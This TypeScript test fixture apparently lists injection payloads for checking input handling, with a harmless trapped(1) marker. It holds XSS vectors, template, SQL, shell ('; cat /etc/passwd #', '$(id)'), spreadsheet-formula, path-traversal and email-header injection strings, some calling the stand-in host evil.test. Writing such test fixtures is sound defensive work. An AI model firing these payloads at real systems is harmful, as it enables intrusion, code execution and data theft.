/** Calls `trapped`, which journeys listen to, where a browser takes any of them for code. */
const call = "trapped(1)";

/** What attackers type: markup and scripts for every place a text can land in. */
const scripts = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title></style></textarea></noscript><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `'><svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover=${call} '`,
  `\` onclick=${call} \``,
  `javascript:${call}`,
  `<a href="javascript:${call}" id=x tabindex=1>here</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<details open ontoggle=${call}>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}></style>`,
  `<!--><script>${call}</script>-->`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `<?xml-stylesheet href="data:text/xsl,x"?>`,
  `<base href="//evil.test/"><meta http-equiv="refresh" content="0;url=//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css><style>@import "//evil.test/x.css"</style>`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u2028${call}//\u2029`,
];

/** What template languages, spreadsheets, shells, databases and headers would act on. */
const others = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `=HYPERLINK("http://evil.test","here")`,
  `+cmd|' /C calc'!A0`,
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\tx=1",
  "; cat /etc/passwd #",
  "$(id)`id`",
  "' or '1'='1' --",
  "../../../../etc/passwd",
  "%0d%0aBcc: victim@evil.test",
  "Asha\r\nBcc: victim@evil.test\r\n\r\n<b>x</b>",
  "=?utf-8?Q?=0D=0ABcc:_victim=40evil.test?=",
  "%s%n%x",
  "__proto__[x]=1",
];

export const payloads: readonly string[] = [...scripts, ...others];

/** Addresses that pass the email rule and are payloads as well. */
export const payloadEmails: readonly string[] = [
  `"><img/src=x/onerror=${call}>@evil.test`,
  `<svg/onload=${call}>@evil.test`,
  `javascript:${call}//@evil.test`,
  `=cmd|'/C'@evil.test`,
  `{{${call}}}@evil.test`,
];
